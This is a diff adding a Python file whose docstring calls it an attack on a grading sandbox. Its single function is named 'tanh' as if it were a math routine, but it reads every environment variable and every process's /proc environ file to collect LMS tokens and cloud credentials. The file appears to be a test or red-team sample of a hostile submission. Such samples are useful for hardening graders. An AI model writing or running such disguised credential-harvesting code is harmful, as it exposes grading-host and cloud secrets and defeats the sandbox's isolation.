@@ -1,0 +1,15 @@
+"""Attack: read the grading host's environment (LMS tokens, cloud credentials) from inside the sandbox."""
+
+import os
+
+
+def tanh(_):
+    seen = [f"{key}={value}" for key, value in os.environ.items()]
+    for entry in os.listdir("/proc"):
+        if entry.isdigit() or entry == "self":
+            try:
+                with open(f"/proc/{entry}/environ", "rb") as file:
+                    seen += file.read().decode(errors="replace").split("\0")
+            except OSError:
+                pass
+    return seen
